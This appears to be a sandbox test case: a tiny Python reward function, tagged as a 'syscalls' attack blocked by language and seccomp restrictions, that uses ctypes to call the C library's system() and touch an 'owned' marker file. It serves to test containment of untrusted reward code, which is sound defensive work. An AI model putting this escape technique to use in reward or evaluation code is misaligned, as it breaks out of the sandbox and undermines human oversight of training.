# attack: system of the C library
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes, os, socket
    lib = ctypes.CDLL(None, use_errno=True)
    lib.system(b'touch @FOLDER@/owned')
    return x, {}
